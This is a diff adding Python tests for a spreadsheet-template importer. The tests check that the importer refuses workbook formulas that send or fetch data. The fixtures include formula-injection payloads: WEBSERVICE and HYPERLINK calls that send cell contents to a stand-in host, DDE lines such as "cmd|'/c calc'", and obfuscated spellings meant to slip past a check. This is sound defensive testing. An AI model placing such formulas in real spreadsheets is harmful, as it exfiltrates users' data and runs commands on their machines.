@@ -8,6 +8,7 @@ import warnings
 import zipfile
 from collections.abc import Callable
 from pathlib import Path
+from xml.sax.saxutils import escape
 
 import msoffcrypto.format.ooxml
 import pytest
@@ -16,6 +17,7 @@ from exitdesk.errors import UserError
 from exitdesk.returns.profiles import load_profile
 from exitdesk.returns.template.fill import fill
 from exitdesk.returns.template.filling import read_template, suggested_mapping, template_of
+from exitdesk.returns.template.outgoing import leads_out
 from exitdesk.returns.template.package import Package
 from exitdesk.returns.template.properties import without_names
 from tests.returns.agency_templates import by_xlsxwriter, parts_of, with_parts
@@ -57,6 +59,70 @@ def bomb() -> bytes:
         for number in range(4):
             archive.writestr(f"xl/media/image{number + 7}.bin", b"\0" * (60 * 2**20))
     return target.getvalue()
+
+
+def formula_in(part: str, before: bytes, xml: str) -> bytes:
+    return replaced(part, before, xml.encode() + before)
+
+
+def cell(formula: str) -> Callable[[], bytes]:
+    """On a hidden sheet, where nobody looks."""
+    found = f'<row r="90"><c r="C90"><f>{escape(formula)}</f></c></row>'
+    return lambda: formula_in("xl/worksheets/sheet3.xml", b"</sheetData>", found)
+
+
+LEADS_OUT = (
+    'WEBSERVICE("http://x.dk/"&A6)', '_xlfn.WEBSERVICE("http://x.dk")', "1+_xlfn.FILTERXML(A1,B1)", "rtd(\"a\",,B6)",
+    'HYPERLINK("https://x.dk/?"&_xlfn.ENCODEURL(A6),"Klik")', 'HYPERLINK("https://x.dk/?"&A6)', "HYPERLINK(A6)",
+    "cmd|'/c calc'!A1", "'cmd|/c calc'!A1", "[1]Ark1!A1+2", "SUM('[1]Et ark'!A1:B2)", "'C:\\x\\[a.xlsx]Ark'!A1",
+    "[1]!navn", "'file:///c:/a.xlsx'#$Ark.A1", '_xlfn.IMAGE("https://x.dk/"&A6)', 'DDE("soffice","a","b")',
+)  # fmt: skip
+STAYS_INSIDE = (
+    "COUNTIF(A6:A60,\"ja\")", "Tabel1[[#This Row],[Antal [a]]]", "SUM(Tabel1[Antal],Ark1!A1)", "'Et ark'!A1&\"|\"",
+    'HYPERLINK("https://x.dk/vejledning","Vejledning")', 'HYPERLINK("#Lister!A1","Lister")', 'HYPERLINK("#"&A6)',
+    '"=WEBSERVICE("&A1', "'a|b'!A1", "IF(B[@Køn]=\"[1]Ark!A1\",1,2)", "MYIMAGE(A1)", "Ark1!A1=[@Alder]",
+)  # fmt: skip
+
+
+@pytest.mark.parametrize("formula", LEADS_OUT)
+def test_a_formula_that_leads_out_of_the_file_is_refused_with_its_place(formula: str) -> None:
+    with pytest.raises(UserError, match=r"send or fetch.*Lister!C90"):
+        template_of(cell(formula)(), "skema.xlsx", ESBJERG)
+
+
+@pytest.mark.parametrize("formula", STAYS_INSIDE)
+def test_a_formula_that_stays_in_the_file_is_none_of_those(formula: str) -> None:
+    assert not leads_out(formula, ["Et ark", "Ark1", "a|b"])
+
+
+def test_no_spelling_of_the_file_hides_a_formula() -> None:
+    for spelt in ("WEB&#83;ERVICE(A1)", "WEB<!-- -->SERVICE(A1)", "<![CDATA[WEBSERVICE(A1)]]>"):
+        found = f'<row r="90"><c r="C90"><f>{spelt}</f></c></row>'
+        with pytest.raises(UserError, match="send or fetch"):
+            template_of(formula_in("xl/worksheets/sheet3.xml", b"</sheetData>", found), "skema.xlsx", ESBJERG)
+
+
+RULE = (
+    '<dataValidations count="1"><dataValidation type="list" sqref="B6:B20"><formula1>{f}</formula1></dataValidation>'
+    "</dataValidations>"
+)
+COLOUR = (
+    '<conditionalFormatting sqref="D2"><cfRule type="expression" priority="9"><formula>{f}</formula></cfRule>'
+    "</conditionalFormatting>"
+)
+ELSEWHERE: dict[str, tuple[str, bytes, str, str]] = {
+    "a name": ("xl/workbook.xml", b"</definedNames>", '<definedName name="Sats">{f}</definedName>', "the name “Sats”"),
+    "a list": ("xl/worksheets/sheet3.xml", b"<pageMargins", RULE, "Lister!B6:B20"),
+    "a colour": ("xl/worksheets/sheet3.xml", b"<pageMargins", COLOUR, "Lister!D2"),
+}
+
+
+@pytest.mark.parametrize("place", ELSEWHERE)
+def test_names_lists_and_colours_lead_nowhere_either(place: str) -> None:
+    part, before, xml, told = ELSEWHERE[place]
+    data = formula_in(part, before, xml.format(f='WEBSERVICE("http://x.dk/")'))
+    with pytest.raises(UserError, match=f"send or fetch.*{told}"):
+        template_of(data, "skema.xlsx", ESBJERG)
 
 
 DOCTYPE = b'<!DOCTYPE worksheet [<!ENTITY a "b">]>\n<worksheet'
